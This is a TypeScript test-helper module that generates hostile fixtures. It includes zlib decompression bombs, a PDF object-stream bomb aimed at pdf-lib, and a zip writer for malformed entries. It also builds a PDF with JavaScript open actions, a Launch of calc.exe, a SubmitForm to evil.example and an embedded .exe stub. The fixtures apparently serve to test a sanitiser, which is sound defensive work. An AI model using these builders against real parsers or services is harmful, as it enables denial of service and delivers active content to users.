import zlib from 'node:zlib';

/**
 * Hostile inputs built in the test instead of committed: small on disk, huge when inflated.
 * A deflate stream of zeros is made by repeating one self-contained non-final block (1 MB of
 * zeros compressed by a fresh deflater, ended by a sync flush) and closing with an empty final
 * block — milliseconds for a 600 MB bomb, where compressing 600 MB would take half a minute.
 */
export function deflatedZeros(inflatedBytes: number, raw = false, fill = 0): Buffer {
  if (inflatedBytes % MiB !== 0) throw new Error('whole MB only');
  const block = zlib.deflateRawSync(Buffer.alloc(MiB, fill), { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  const body = Buffer.concat([...Array.from({ length: inflatedBytes / MiB }, () => block), Buffer.from([0x03, 0x00])]);
  if (raw) return body;
  const adler = Buffer.alloc(4);
  // Adler-32 of n equal bytes f: a = 1 + n·f, b = n + f·n(n+1)/2 (mod 65 521).
  const n = BigInt(inflatedBytes);
  const f = BigInt(fill);
  const a = (1n + n * f) % 65521n;
  const b = (n + (f * n * (n + 1n)) / 2n) % 65521n;
  adler.writeUInt32BE(Number((b << 16n) | a));
  return Buffer.concat([Buffer.from([0x78, 0xda]), body, adler]);
}

const MiB = 1024 * 1024;

/** Assembles a PDF from numbered object bodies (1-based), with a correct xref table. */
export function rawPdf(objects: (string | Buffer)[], root = 1): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const bytes = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.push(offset);
    offset += bytes.length;
    parts.push(bytes);
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root ${root} 0 R >>`,
    'startxref',
    String(offset),
    '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

const page = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>${extra} >>`;
const content = (text: string) => {
  const s = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
  return `<< /Length ${s.length} >>\nstream\n${s}\nendstream`;
};

/**
 * One ordinary page plus an unreferenced object stream that inflates to `inflatedBytes` of the
 * digit 0 — one endless number for pdf-lib's object-stream header parser — or of `fill`.
 */
export function objStmBombPdf(inflatedBytes: number, fill = 0x30): Buffer {
  const bomb = deflatedZeros(inflatedBytes, false, fill);
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(),
    content('Vanlig sida'),
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`, 'latin1'),
      bomb,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  ]);
}

/**
 * A page carrying active content: an open action and page additional-actions running JavaScript,
 * a full-page Launch link, a SubmitForm link, an embedded file — and an http link and an internal
 * link that must survive.
 */
export function activeContentPdf(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> /Names << /JavaScript << /Names [(x) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 2 >>',
    page(' /Annots [5 0 R 7 0 R 8 0 R 11 0 R 12 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
    content('Sida med aktivt innehall'),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /Launch /F (calc.exe) >> >>',
    '<< /S /JavaScript /JS (app.alert\\(3\\)) >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (https://www.example.se/rapport) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /A << /S /GoTo /D [10 0 R /Fit] >> >>',
    '<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>',
    page(),
    '<< /Type /Annot /Subtype /Link /Rect [72 520 300 540] /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [72 480 90 500] /FS 9 0 R >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ]);
}

export interface ZipEntry {
  name: string;
  /** Raw deflate data (method 8) or the bytes themselves (method 0). */
  data: Uint8Array;
  method: 0 | 8;
  crc: number;
  size: number;
  /** General-purpose flags; bit 0 marks an encrypted entry. */
  flags?: number;
}

export const stored = (name: string, bytes: Uint8Array): ZipEntry => ({
  name,
  data: bytes,
  method: 0,
  crc: zlib.crc32(bytes),
  size: bytes.length,
});

/** A deflated entry of `size` zeros, made once in 1 MB steps (crc included). */
export function zerosEntry(name: string, size: number): ZipEntry {
  const chunk = Buffer.alloc(1024 * 1024);
  let crc = 0;
  for (let left = size; left > 0; left -= chunk.length)
    crc = zlib.crc32(chunk.subarray(0, Math.min(left, chunk.length)), crc);
  return { name, data: deflatedZeros(size, true), method: 8, crc, size };
}

/** A plain zip writer (no zip64) so tests can make entries a library would refuse to make. */
export function writeZip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE((e.flags ?? 0) | 0x800, 6);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE((e.flags ?? 0) | 0x800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(e.data));
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}
